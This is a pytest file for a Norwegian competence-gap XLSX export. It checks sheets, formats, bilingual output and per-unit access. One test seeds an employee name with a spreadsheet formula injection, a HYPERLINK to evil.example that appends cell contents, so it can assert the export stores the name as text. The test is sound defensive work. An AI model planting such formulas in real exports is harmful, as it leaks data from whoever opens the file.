"""The gap report's XLSX workbook, opened as Excel would: sheets, headings, widths, filters,
frozen headings, dates as dates, shares as percentages, both languages, who sees what."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

XLSX = "/reports/gaps.xlsx"
SHEETS = {
    "nb": ["Kompetansegap", "Per kompetanse", "Per enhet", "Dekningskrav"],
    "en": ["Competence gaps", "By competence", "By unit", "Coverage rules"],
}
HEADINGS = {
    "nb": (
        "Navn",
        "E-post",
        "Enhet",
        "Stilling",
        "Kompetanse",
        "Krav",
        "Status",
        "Oppnådd",
        "Utløper",
    ),
    "en": (
        "Name",
        "Email",
        "Unit",
        "Position",
        "Competence",
        "Requirement",
        "Status",
        "Achieved",
        "Expires",
    ),
}


def workbook(client, url: str = XLSX):
    response = client.get(url)
    assert response.status_code == 200
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.content_length == len(response.data)
    return load_workbook(io.BytesIO(response.data))


def values(sheet) -> list[tuple]:
    return list(sheet.iter_rows(values_only=True))


def test_lead_gets_a_line_per_person_and_requirement_of_own_units(client, auth, gap_org):
    auth.login(gap_org.lead_a)
    book = workbook(client)
    assert book.sheetnames == SHEETS["nb"]
    assert book.properties.title == "Kompetansegap per 22.11.2026"
    rows = values(book["Kompetansegap"])
    assert rows == [
        HEADINGS["nb"],
        (
            "Ansatt A",
            "ansatt@a.test",
            "Enhet A",
            "Helsesekretær",
            "HLR",
            "Påkrevd",
            "Utløper snart",
            datetime(2025, 1, 10),
            datetime(2027, 1, 10),
        ),
        (
            "Ansatt A",
            "ansatt@a.test",
            "Enhet A",
            "Helsesekretær",
            "Taushetsplikt",
            "Anbefalt",
            "Mangler",
            None,
            None,
        ),
    ]
    units = [row[0] for row in values(book["Per enhet"])[1:]]
    assert units == ["Enhet A"]
    coverage = values(book["Dekningskrav"])
    assert coverage == [
        ("Kompetanse", "Enhet", "Minst", "Har gyldig", "Brudd"),
        ("HLR", "Enhet A", 2, 1, "Ja"),
    ]


def test_admin_gets_everyone_and_the_filters_of_the_page(client, auth, gap_org):
    auth.login(gap_org.admin)
    emails = {row[1] for row in values(workbook(client)["Kompetansegap"])[1:]}
    assert emails == {"ansatt@a.test", "ansatt@b.test"}
    only_b = values(workbook(client, f"{XLSX}?unit={gap_org.b.id}")["Kompetansegap"])[1:]
    assert {row[1] for row in only_b} == {"ansatt@b.test"}
    expiring = values(workbook(client, f"{XLSX}?status=expiring")["Kompetansegap"])[1:]
    assert [(row[1], row[6]) for row in expiring] == [("ansatt@a.test", "Utløper snart")]


def test_lead_never_gets_another_units_people(client, auth, gap_org):
    auth.login(gap_org.lead_b)
    for url in (XLSX, f"{XLSX}?unit={gap_org.a.id}"):
        book = workbook(client, url)
        assert {row[1] for row in values(book["Kompetansegap"])[1:]} == {"ansatt@b.test"}
        assert [row[0] for row in values(book["Per enhet"])[1:]] == ["Enhet B"]
        assert "Enhet A" not in {row[1] for row in values(book["Dekningskrav"])[1:]}


def test_sheets_have_frozen_headings_filters_and_readable_widths(client, auth, gap_org):
    auth.login(gap_org.admin)
    book = workbook(client)
    for sheet in book:
        heading_row = values(sheet)[0]
        last_column = chr(ord("A") + len(heading_row) - 1)
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref == f"A1:{last_column}{sheet.max_row}", sheet.title
        assert sheet.print_title_rows == "$1:$1", sheet.title
        for number, heading in enumerate(heading_row):
            cell = sheet.cell(row=1, column=number + 1)
            assert cell.font.bold, (sheet.title, heading)
            width = sheet.column_dimensions[cell.column_letter].width
            assert width >= len(heading) + 3, (sheet.title, heading, width)
    gaps = book["Kompetansegap"]
    widths = {
        heading: gaps.column_dimensions[chr(ord("A") + n)].width
        for n, heading in enumerate(HEADINGS["nb"])
    }
    assert widths["E-post"] >= 30
    assert widths["Navn"] >= 25
    assert widths["Oppnådd"] >= len("22.11.2026") + 1


def test_dates_are_dates_shown_the_norwegian_way(client, auth, gap_org):
    auth.login(gap_org.lead_a)
    sheet = workbook(client)["Kompetansegap"]
    achieved, expires = sheet["H2"], sheet["I2"]
    assert achieved.is_date
    assert expires.is_date
    assert achieved.value.date() == date(2025, 1, 10)
    assert expires.value.date() == date(2027, 1, 10)
    assert achieved.number_format == expires.number_format == "dd.mm.yyyy"
    assert sheet["H3"].value is None  # nothing held: an empty cell, not an empty text


def test_shares_are_percentages(client, auth, gap_org, make_person, make_record):
    # Enhet A: Ansatt A's HLR is expiring (met) and three more with HLR, one without: 4 of 5.
    for _number in range(3):
        make_record(
            make_person(unit=gap_org.a, position=gap_org.position), gap_org.hlr, date(2026, 3, 1)
        )
    make_person(unit=gap_org.a, position=gap_org.position)  # started in 2020: missing
    auth.login(gap_org.lead_a)
    book = workbook(client)
    per_unit = book["Per enhet"]
    assert values(per_unit)[0] == (
        "Enhet",
        "OK",
        "Utløper snart",
        "Utløpt",
        "Mangler",
        "Ikke forfalt",
        "Påkrevde",
        "Andel påkrevde oppfylt",
    )
    share = per_unit["H2"]
    assert share.value == pytest.approx(0.8)
    assert share.number_format == "0.0 %"  # 80,0 % in Norwegian Excel
    hlr = next(row for row in book["Per kompetanse"].iter_rows() if row[0].value == "HLR")
    assert hlr[7].value == pytest.approx(0.8)
    assert hlr[7].number_format == "0.0 %"
    secrecy = next(
        row for row in book["Per kompetanse"].iter_rows() if row[0].value == "Taushetsplikt"
    )
    assert secrecy[6].value == 0
    assert secrecy[7].value is None  # recommended only: no share of mandatory ones to show


def test_statuses_are_coloured_and_a_recommended_gap_is_muted(client, auth, gap_org):
    auth.login(gap_org.lead_a)
    sheet = workbook(client)["Kompetansegap"]
    assert sheet["G2"].fill.fgColor.rgb.endswith("FFF1D6")  # expiring
    assert sheet["G3"].value == "Mangler"
    assert sheet["G3"].fill.fgColor.rgb.endswith("ECEFF2")  # recommended: never red


def test_english_interface_gets_an_english_workbook(client, auth, gap_org):
    auth.login(gap_org.lead_a)
    client.post("/language", data={"language": "en"})
    book = workbook(client)
    assert book.sheetnames == SHEETS["en"]
    assert book.properties.title == "Competence gaps on 22.11.2026"
    rows = values(book["Competence gaps"])
    assert rows[0] == HEADINGS["en"]
    assert [(row[5], row[6]) for row in rows[1:]] == [
        ("Mandatory", "Expiring soon"),
        ("Recommended", "Missing"),
    ]
    assert values(book["By unit"])[0][0] == "Unit"
    assert values(book["By unit"])[0][-1] == "Share of mandatory met"
    assert values(book["Coverage rules"])[1][-1] == "Yes"


def test_a_name_never_becomes_a_formula(client, auth, gap_org, make_person):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Klikk")'
    make_person(unit=gap_org.a, position=gap_org.position, name=formula)
    auth.login(gap_org.lead_a)
    data = client.get(XLSX).data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    names = [row[0] for row in values(load_workbook(io.BytesIO(data))["Kompetansegap"])]
    assert formula in names


def test_a_control_character_in_a_name_is_left_out(client, auth, gap_org, make_person):
    make_person(unit=gap_org.a, position=gap_org.position, name="Kari\x0bNordmann")
    auth.login(gap_org.lead_a)
    names = [row[0] for row in values(workbook(client)["Kompetansegap"])]
    assert "KariNordmann" in names


def test_queries_do_not_grow_with_people(count_queries, auth, gap_org, make_person, make_record):
    auth.login(gap_org.admin)
    few = count_queries(XLSX)
    for number in range(15):
        person = make_person(unit=gap_org.a, position=gap_org.position)
        make_record(person, gap_org.hlr, date(2026, 1, number + 1))
    assert count_queries(XLSX) == few


def test_lines_past_excels_limit_go_on_over_more_sheets(
    client, auth, gap_org, make_person, monkeypatch
):
    from portal.reports import exports

    make_person(unit=gap_org.a, position=gap_org.position, name="Zakarias")  # lines 3 and 4
    monkeypatch.setattr(exports, "LINES_PER_SHEET", 3)
    auth.login(gap_org.lead_a)
    book = workbook(client)
    assert book.sheetnames == ["Kompetansegap", "Kompetansegap (2)", *SHEETS["nb"][1:]]
    first, second = values(book["Kompetansegap"]), values(book["Kompetansegap (2)"])
    assert first[0] == second[0] == HEADINGS["nb"]
    assert [row[0] for row in first[1:] + second[1:]] == ["Ansatt A"] * 2 + ["Zakarias"] * 2
    assert book["Kompetansegap"].auto_filter.ref == "A1:I4"
    assert book["Kompetansegap (2)"].auto_filter.ref == "A1:I2"
    assert book["Kompetansegap (2)"].freeze_panes == "A2"
